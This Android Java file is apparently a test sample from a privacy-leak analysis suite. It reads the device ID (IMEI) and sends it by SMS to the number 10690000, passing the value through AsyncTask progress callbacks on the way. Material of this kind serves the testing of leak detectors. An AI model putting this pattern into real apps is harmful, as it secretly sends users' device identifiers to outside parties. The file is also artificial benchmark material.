package cn.privlens.suite.async_progress;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Task().execute(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
    }
    static class Task extends AsyncTask<String, String, Void> {
        @Override
        protected Void doInBackground(String... in) {
            publishProgress(in[0], "half");
            return null;
        }
        @Override
        protected void onProgressUpdate(String... values) { SmsManager.getDefault().sendTextMessage("10690000", null, values[0], null, null); }
    }
}
